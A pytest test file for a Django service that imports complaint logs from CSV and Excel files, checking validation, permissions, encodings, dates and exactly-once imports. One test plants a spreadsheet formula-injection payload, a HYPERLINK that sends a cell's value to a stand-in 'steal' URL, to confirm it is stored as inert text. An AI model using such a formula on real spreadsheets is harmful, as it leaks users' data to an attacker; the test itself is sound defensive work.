"""Importing into a problem log (complaints/importing/services.py): upload, check, import,
all or nothing, exactly once. Runs on SQLite and PostgreSQL (the COPY path)."""

from __future__ import annotations

import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files import File
from django.db import connection
from django.db.models import Count
from django.utils import timezone

from complaints import services as problem_services
from complaints.importing import checking, services, storage
from complaints.importing import writers as writers_module
from complaints.models import CategoryMapping, ImportJob, Problem
from tests.complaints.factories import ProblemFactory
from tests.complaints.test_import_files import (
    HEADER,
    TEXAS,
    TEXAS_ROWS,
    good_rows,
    write_csv,
    write_xlsx,
)

LONDON = ZoneInfo("Europe/London")


@pytest.fixture(autouse=True)
def _private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path / "private"


def stored_files(settings) -> list[Path]:
    folder = Path(settings.PRIVATE_STORAGE_ROOT) / "imports"
    return sorted(folder.iterdir()) if folder.exists() else []


def upload(path: Path, **kwargs) -> ImportJob:
    with open(path, "rb") as handle:
        return services.import_job_create(upload=File(handle, name=path.name), **kwargs)


@pytest.fixture
def create(centre, learner):
    def _create(path: Path, *, by=None, into=None) -> ImportJob:
        return upload(path, centre=centre, uploaded_by=by or learner, learner=into or learner)

    return _create


@pytest.fixture
def checked(create, learner):
    """Upload, keep the guessed mapping (optionally changed), check."""

    def _checked(path: Path, *, mapping=None, date_format="", categories=None) -> ImportJob:
        job = create(path)
        if mapping is not None or date_format or categories:
            job = services.import_job_configure(
                job=job,
                by=learner,
                mapping={**job.mapping, **(mapping or {})},
                date_format=date_format,
                categories=categories,
            )
        return services.import_job_validate(job=job)

    return _checked


def run(job: ImportJob, *, skip_invalid: bool = False) -> ImportJob:
    return services.import_job_start(job=job, by=job.uploaded_by, skip_invalid=skip_invalid)


# --- The Texas sample, end to end ---------------------------------------------------------------


def test_an_upload_is_stored_privately_with_its_hash_headers_preview_and_guessed_mapping(
    create, settings
):
    job = create(TEXAS)
    assert job.state == ImportJob.State.UPLOADED
    assert (job.file_format, job.encoding, job.original_name) == (
        "csv",
        "utf-8",
        "tx_tdi_complaints_sample.csv",
    )
    assert job.size_bytes == TEXAS.stat().st_size
    assert len(job.sha256) == 64
    assert job.stored_name != job.original_name
    assert storage.upload_path(job).read_bytes() == TEXAS.read_bytes()
    assert job.mapping["external_ref"] == "complaint_number"
    assert job.total_rows == TEXAS_ROWS
    meta = storage.read_meta(job)
    assert [number for number, _ in meta["preview"]] == [2, 3, 4, 5, 6]
    assert meta["categories"]["Property and Casualty"] == 1277


def test_the_texas_sample_checks_clean_and_imports_every_row_with_its_history(
    checked, learner, centre
):
    job = checked(TEXAS)
    assert (job.state, job.total_rows, job.rejected_count, job.skipped_count) == (
        ImportJob.State.VALIDATED,
        TEXAS_ROWS,
        0,
        0,
    )
    assert not Problem.objects.exists()  # checking writes nothing

    job = run(job)

    assert job.state == ImportJob.State.DONE
    assert job.imported_count == TEXAS_ROWS
    problems = Problem.objects.filter(import_job=job)
    assert problems.count() == TEXAS_ROWS
    assert sorted(problems.values_list("number", flat=True)) == list(range(1, TEXAS_ROWS + 1))
    first = problems.get(import_row=2)
    assert (first.external_ref, first.learner, first.centre) == ("159573", learner, centre)
    assert first.received_at == datetime.datetime(2017, 1, 2, tzinfo=LONDON)
    assert first.resolved_at == datetime.datetime(2017, 7, 20, tzinfo=LONDON)
    assert (first.status, first.category, first.channel) == ("resolved", "unclassified", "other")
    assert first.product == "Accident and Health"
    assert first.description == "COVERAGE DISPUTE; FEDERAL HEALTH CARE REFORM"
    assert first.resolution_due == first.received_at + datetime.timedelta(hours=120)
    record = first.history.get()
    assert (record.history_type, record.history_user, record.history_change_reason) == (
        "+",
        learner,
        f"Import #{job.pk}, row 2",
    )
    assert Problem.history.filter(import_job_id=job.pk).count() == TEXAS_ROWS
    assert not storage.upload_path(job).exists()  # no copy of the company's file is kept


def test_imported_numbers_continue_the_centres_sequence(checked, centre, learner):
    ProblemFactory(centre=centre, learner=learner, number=41)
    job = run(checked(TEXAS))
    numbers = Problem.objects.filter(import_job=job).values_list("number", flat=True)
    assert (min(numbers), max(numbers)) == (42, 41 + TEXAS_ROWS)


def test_a_category_mapping_is_saved_for_the_centre_and_used(checked, centre, learner):
    job = checked(TEXAS, categories={"Property and Casualty": "system_failure"})
    run(job)
    saved = CategoryMapping.objects.get(centre=centre)
    assert (saved.source_value, saved.category) == ("property and casualty", "system_failure")
    counts = dict(
        Problem.objects.values_list("category").annotate(n=Count("id")).order_by("category")
    )
    assert counts["system_failure"] == 1277
    assert counts["unclassified"] == TEXAS_ROWS - 1277


def test_choosing_unclassified_for_a_new_value_saves_nothing(checked, centre):
    checked(TEXAS, categories={"Medicare HMO": "unclassified"})
    assert not CategoryMapping.objects.filter(centre=centre).exists()


# --- Refused files leave nothing behind -----------------------------------------------------------


def _png(path: Path) -> Path:
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    return path


def _broken_encoding(path: Path) -> Path:
    path.write_bytes(b"Case ID,Date received\r\n1,2017-08-25 \x81\x8d\x8f\x90\x9d\r\n")
    return path


def _headers_only(path: Path) -> Path:
    return write_csv(path, [HEADER])


def _empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def _pdf(path: Path) -> Path:
    path.write_bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\n")
    return path


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (_png, "This is a PNG image"),
        (_pdf, "This is a PDF document"),
        (_broken_encoding, "byte 0x81 is not valid UTF-8 or Windows-1252"),
        (_headers_only, "a header row but no rows of problems"),
        (_empty, "The file is empty"),
    ],
)
def test_a_hostile_or_empty_file_is_refused_clearly_and_nothing_is_kept(
    create, tmp_path, settings, make, message
):
    with pytest.raises(ValidationError, match=message):
        create(make(tmp_path / "complaints.csv"))
    assert not ImportJob.objects.exists()
    assert stored_files(settings) == []


def test_a_file_over_the_size_limit_is_refused_naming_both_sizes(create, settings, tmp_path):
    settings.CASEBOOK_IMPORT_MAX_BYTES = 1000
    path = write_csv(tmp_path / "big.csv", good_rows(100))
    with pytest.raises(
        ValidationError, match=r"The file is .*; the largest file .* is 1,000 bytes"
    ):
        create(path)
    assert not ImportJob.objects.exists()
    assert stored_files(settings) == []


def test_a_file_that_grows_past_the_limit_while_stored_is_refused(centre, learner, settings):
    settings.CASEBOOK_IMPORT_MAX_BYTES = 1000

    class Lying:  # claims to be small; the stream says otherwise
        name = "lying.csv"
        size = 10

        def chunks(self):
            yield b"x" * 800
            yield b"x" * 800

    with pytest.raises(ValidationError, match="largest file"):
        services.import_job_create(
            centre=centre, uploaded_by=learner, learner=learner, upload=Lying()
        )
    assert stored_files(settings) == []


def test_an_assessor_cannot_import_into_a_learners_log(centre, learner, assessor, enrolment):
    with pytest.raises(PermissionDenied):
        upload(TEXAS, centre=centre, uploaded_by=assessor, learner=learner)


def test_a_manager_of_another_centre_cannot_import_into_a_learners_log(
    centre, learner, other_centre_manager
):
    with pytest.raises(PermissionDenied):
        upload(TEXAS, centre=centre, uploaded_by=other_centre_manager, learner=learner)


def test_a_manager_imports_into_a_learners_log_at_their_centre(centre, learner, manager):
    job = upload(TEXAS, centre=centre, uploaded_by=manager, learner=learner)
    assert (job.uploaded_by, job.learner) == (manager, learner)


# --- The check's report -------------------------------------------------------------------------


def test_ten_thousand_bad_rows_are_all_reported_with_row_column_and_reason_and_nothing_written(
    checked, tmp_path
):
    rows = [HEADER] + [
        [f"R{n}", "not a date", "", "Broadband", "Pigeon", "x"] for n in range(10_000)
    ]
    job = checked(write_csv(tmp_path / "bad.csv", rows))
    assert (job.state, job.total_rows, job.rejected_count) == (
        ImportJob.State.VALIDATED,
        10_000,
        10_000,
    )
    lines = list(storage.report_lines(job))
    assert lines[0] == ["row", "column", "problem", "outcome"]
    assert len(lines) == 1 + 20_000  # two problems in each row
    assert lines[1] == ["2", "Date received", "“not a date” is not a date", "rejected"]
    assert lines[2][:2] == ["2", "Channel"]
    assert lines[-1][:2] == ["10001", "Channel"]
    assert {int(line[0]) for line in lines[1:]} == set(range(2, 10_002))
    assert len(job.report) == storage.REPORT_KEEP
    with pytest.raises(ValidationError, match="10,000 rows have problems"):
        run(job)
    assert not Problem.objects.exists()


def test_references_already_in_the_log_are_skipped_and_reported(checked, centre, learner, tmp_path):
    ProblemFactory(centre=centre, learner=learner, number=7, external_ref="CASE-000002")
    job = checked(write_csv(tmp_path / "again.csv", good_rows(3)))
    assert (job.rejected_count, job.skipped_count) == (0, 1)
    assert job.report == [
        {
            "row": 3,
            "column": "Case ID",
            "reason": "“CASE-000002” is already in the log (problem number 7)",
            "outcome": "skipped",
        }
    ]
    job = run(job)
    assert (job.imported_count, job.skipped_count) == (2, 1)
    assert Problem.objects.filter(external_ref="CASE-000002").count() == 1


def test_importing_the_same_file_twice_skips_every_row_the_second_time(checked, tmp_path):
    path = write_csv(tmp_path / "twice.csv", good_rows(20))
    run(checked(path))
    second = checked(path)
    assert (second.skipped_count, second.rejected_count) == (20, 0)
    second = run(second)
    assert (second.state, second.imported_count, second.skipped_count) == ("done", 0, 20)
    assert Problem.objects.count() == 20


def test_a_reference_twice_in_the_file_is_a_bad_row(checked, tmp_path):
    rows = good_rows(3)
    rows[3][0] = rows[1][0]
    job = checked(write_csv(tmp_path / "dupes.csv", rows))
    assert job.rejected_count == 1
    assert job.report[0]["row"] == 4
    assert (
        job.report[0]["reason"] == "“CASE-000001” is also in row 2: each reference may appear once"
    )


def test_all_or_nothing_refuses_a_file_with_any_bad_row(checked, tmp_path):
    rows = good_rows(5)
    rows[3][1] = "31/02/2017"
    job = checked(write_csv(tmp_path / "one-bad.csv", rows))
    with pytest.raises(ValidationError, match="1 rows have problems"):
        run(job)
    job.refresh_from_db()
    assert job.state == ImportJob.State.VALIDATED
    assert not Problem.objects.exists()


def test_skip_invalid_imports_the_valid_rows_and_reports_the_rest(checked, tmp_path):
    rows = good_rows(5)
    rows[3][1] = "31/02/2017"
    rows[5][4] = "Carrier pigeon"
    job = run(checked(write_csv(tmp_path / "two-bad.csv", rows)), skip_invalid=True)
    assert (job.state, job.imported_count, job.rejected_count) == ("done", 3, 2)
    assert sorted(Problem.objects.values_list("import_row", flat=True)) == [2, 3, 5]
    assert [(line["row"], line["column"]) for line in job.report] == [
        (4, "Date received"),
        (6, "Channel"),
    ]


# --- Encodings, dates, multi-line values, workbooks ------------------------------------------------


def test_windows_1252_and_bom_files_import_their_text_exactly(checked, tmp_path):
    rows = [HEADER, ["1", "25/08/2017", "", "Café", "Phone", "Charged £5 – “twice”"]]
    for name, kwargs in (("cp.csv", {"encoding": "cp1252"}), ("bom.csv", {"bom": True})):
        job = run(
            checked(write_csv(tmp_path / name, [rows[0], [f"{name}", *rows[1][1:]]], **kwargs))
        )
        problem = Problem.objects.get(import_job=job)
        assert (problem.product, problem.description) == ("Café", "Charged £5 – “twice”")
    assert list(ImportJob.objects.order_by("pk").values_list("encoding", flat=True)) == [
        "cp1252",
        "utf-8-sig",
    ]


def test_multi_line_values_and_blank_lines_keep_spreadsheet_row_numbers(checked, tmp_path):
    path = tmp_path / "multi.csv"
    path.write_text(
        "Case ID,Date received,Details\r\n"
        '1,25/08/2017,"Line one\r\nline two"\r\n'
        "\r\n"
        "2,not a date,x\r\n",
        encoding="utf-8",
    )
    job = checked(path)
    assert job.report[0]["row"] == 4
    run(job, skip_invalid=True)
    problem = Problem.objects.get()
    assert (problem.import_row, problem.description) == (2, "Line one\r\nline two")


def test_ambiguous_dates_wait_for_the_user_to_choose_the_format(checked, create, learner, tmp_path):
    rows = [HEADER, ["1", "03/04/2017", "", "", "", ""], ["2", "11/12/2017", "", "", "", ""]]
    path = write_csv(tmp_path / "ambiguous.csv", rows)
    job = checked(path)
    assert job.state == ImportJob.State.UPLOADED
    assert "“03/04/2017” could be day-first (UK) or month-first (US)" in job.error
    assert "could be day-first" in storage.read_meta(job)["date_question"]

    uk = run(checked(path, date_format="dmy"))
    received = Problem.objects.get(import_job=uk, import_row=2).received_at
    assert timezone.localtime(received).date() == datetime.date(2017, 4, 3)


def test_us_dates_are_settled_by_a_month_position_above_twelve(checked, tmp_path):
    rows = [HEADER, ["1", "03/04/2017", "", "", "", ""], ["2", "08/25/2017", "", "", "", ""]]
    job = checked(write_csv(tmp_path / "us.csv", rows))
    assert (job.state, job.date_format, job.rejected_count) == ("validated", "mdy", 0)
    run(job)
    received = Problem.objects.get(import_row=2).received_at
    assert timezone.localtime(received).date() == datetime.date(2017, 3, 4)


def test_uk_dates_are_settled_by_a_day_above_twelve(checked, tmp_path):
    job = checked(write_csv(tmp_path / "uk.csv", good_rows(30)))
    assert (job.state, job.date_format) == ("validated", "dmy")


def test_workbook_formula_cells_are_stored_as_inert_text_or_refused_as_dates(checked, tmp_path):
    link = '=HYPERLINK("http://example.invalid/steal?c="&A2,"Click for details")'
    path = write_xlsx(
        tmp_path / "formulas.xlsx",
        [
            ["Case ID", "Date received", "Product", "Details"],
            ["F1", "2017-08-25", "=1+1", link],
            ["F2", "=TODAY()", "Broadband", "ok"],
        ],
    )
    job = checked(path)
    assert [(line["row"], line["column"], line["reason"]) for line in job.report] == [
        (3, "Date received", "“=TODAY()” is not a date")
    ]
    run(job, skip_invalid=True)
    problem = Problem.objects.get()
    # Never evaluated: the formula's own text, which pages escape and exports neutralise.
    assert (problem.product, problem.description) == ("=1+1", link)


def test_personal_data_in_a_description_is_flagged_as_when_typed(checked, tmp_path):
    rows = [HEADER, ["1", "25/08/2017", "", "", "", "Call Mrs Jones on 07700 900123"]]
    run(checked(write_csv(tmp_path / "pd.csv", rows)))
    kinds = {flag["kind"] for flag in Problem.objects.get().personal_data_flags}
    assert kinds == {"phone number", "name with a title"}


# --- Exactly once ---------------------------------------------------------------------------------


def test_running_a_finished_job_again_writes_nothing(checked):
    job = run(checked(TEXAS))
    assert services.import_job_run(job_id=job.pk) is None
    assert Problem.objects.count() == TEXAS_ROWS


def test_a_job_that_is_gone_is_nothing_to_run(db):
    assert services.import_job_run(job_id=987654) is None


class WorkerKilled(BaseException):
    """Like the worker process dying: nothing in the service catches it."""


@pytest.fixture
def small_chunks(monkeypatch):
    monkeypatch.setattr(checking, "CHUNK_ROWS", 500)


def _fail_on_chunk(monkeypatch, number: int, error: BaseException) -> None:
    calls = {"n": 0}
    original = writers_module.RowWriter.write

    def write(self, data, **kwargs):
        calls["n"] += 1
        if calls["n"] == number:
            raise error
        return original(self, data, **kwargs)

    monkeypatch.setattr(writers_module.RowWriter, "write", write)


def assert_each_row_once(job: ImportJob) -> None:
    rows = list(Problem.objects.filter(import_job=job).values_list("import_row", flat=True))
    assert len(rows) == len(set(rows)) == TEXAS_ROWS
    numbers = sorted(Problem.objects.values_list("number", flat=True))
    assert numbers == list(range(1, TEXAS_ROWS + 1))
    assert Problem.history.filter(import_job_id=job.pk).count() == TEXAS_ROWS


def test_a_worker_killed_mid_import_is_rerun_and_imports_each_row_exactly_once(
    checked, monkeypatch, small_chunks
):
    job = checked(TEXAS)
    _fail_on_chunk(monkeypatch, 2, WorkerKilled())
    with pytest.raises(WorkerKilled):
        run(job)
    job.refresh_from_db()
    assert (job.state, job.processed_rows, job.imported_count) == ("running", 500, 500)
    assert Problem.objects.count() == 500  # the first chunk was committed, the second not

    monkeypatch.undo()
    job = services.import_job_run(job_id=job.pk)  # the redelivered task

    assert (job.state, job.imported_count, job.processed_rows) == ("done", TEXAS_ROWS, TEXAS_ROWS)
    assert_each_row_once(job)


def test_an_import_that_fails_part_way_continues_when_tried_again(
    checked, monkeypatch, small_chunks
):
    job = checked(TEXAS)
    _fail_on_chunk(monkeypatch, 3, RuntimeError("disk on fire"))
    job = run(job)
    assert (job.state, job.imported_count) == ("failed", 1000)
    assert "“Try again” continues from where it stopped" in job.error

    monkeypatch.undo()
    job = run(job)  # "Try again"

    assert (job.state, job.imported_count) == ("done", TEXAS_ROWS)
    assert_each_row_once(job)


def test_a_second_click_on_import_is_refused_and_imports_nothing_more(checked):
    job = checked(TEXAS)
    stale = ImportJob.objects.get(pk=job.pk)
    run(job)
    with pytest.raises(ValidationError, match="already started"):
        run(stale)
    assert Problem.objects.count() == TEXAS_ROWS


def test_the_mapping_cannot_change_once_the_import_has_started(checked, learner):
    job = run(checked(TEXAS))
    with pytest.raises(ValidationError, match="mapping is fixed"):
        services.import_job_configure(job=job, by=learner, mapping=job.mapping)


def test_only_the_uploader_changes_an_import(create, manager, learner):
    job = create(TEXAS, by=manager, into=learner)
    with pytest.raises(PermissionDenied):
        services.import_job_configure(job=job, by=learner, mapping=job.mapping)
    with pytest.raises(PermissionDenied):
        services.import_job_start(job=job, by=learner)


def test_discarding_deletes_the_stored_file_and_imports_nothing(create, learner, settings):
    job = services.import_job_discard(job=create(TEXAS), by=learner)
    assert job.state == ImportJob.State.CANCELLED
    assert stored_files(settings) == []


# --- Between the check and the import ---------------------------------------------------------------


def test_a_reference_that_reaches_the_log_after_the_check_is_skipped_and_reported(
    checked, centre, learner, tmp_path
):
    job = checked(write_csv(tmp_path / "late.csv", good_rows(3)))
    ProblemFactory(centre=centre, learner=learner, number=99, external_ref="CASE-000002")
    job = run(job)
    assert (job.state, job.imported_count, job.skipped_count) == ("done", 2, 1)
    assert job.report[-1] == {
        "row": 3,
        "column": "Case ID",
        "reason": "“CASE-000002” reached the log after the check",
        "outcome": "skipped",
    }
    assert list(storage.report_lines(job))[-1] == [
        "3",
        "Case ID",
        "“CASE-000002” reached the log after the check",
        "skipped",
    ]
    # Numbers stay gapless: the skipped row took none.
    assert sorted(Problem.objects.filter(import_job=job).values_list("number", flat=True)) == [
        100,
        101,
    ]


def test_a_writer_racing_past_the_lookups_only_makes_the_chunk_skip_the_conflict(
    checked, centre, learner, tmp_path, monkeypatch
):
    if connection.vendor != "postgresql":
        pytest.skip("the plain-INSERT fast path and its fallback are PostgreSQL's")
    job = checked(write_csv(tmp_path / "race.csv", good_rows(3)))
    ProblemFactory(centre=centre, learner=learner, number=50, external_ref="CASE-000003")
    original = writers_module.PostgresRowWriter.__init__

    def blind(self, job):  # as if the conflicting row was committed after the lookup
        original(self, job)
        self.sql = self.sql.replace("AND logged.found IS NULL", "")
        self.safe_sql = self.safe_sql.replace("AND logged.found IS NULL", "")

    monkeypatch.setattr(writers_module.PostgresRowWriter, "__init__", blind)
    job = run(job)
    assert (job.state, job.imported_count, job.skipped_count) == ("done", 2, 1)
    assert Problem.objects.filter(external_ref="CASE-000003").count() == 1


def test_due_times_are_those_problem_due_times_gives_across_the_clock_changes(
    checked, centre, tmp_path
):
    rows = [
        HEADER,
        ["D1", "25/03/2017 12:00", "", "", "", ""],  # the day before the clocks go forward
        ["D2", "28/10/2017 12:00", "", "", "", ""],  # the day before they go back
        ["D3", "15/08/2017 13:30", "", "", "", ""],
    ]
    run(checked(write_csv(tmp_path / "dst.csv", rows)))
    level = problem_services.service_level_for(centre=centre)
    for problem in Problem.objects.all():
        expected = problem_services.problem_due_times(
            received_at=timezone.localtime(problem.received_at), service_level=level
        )
        assert (problem.first_response_due, problem.resolution_due) == expected
    d1 = Problem.objects.get(external_ref="D1")
    assert timezone.localtime(d1.first_response_due).hour == 12  # wall-clock, as in Python
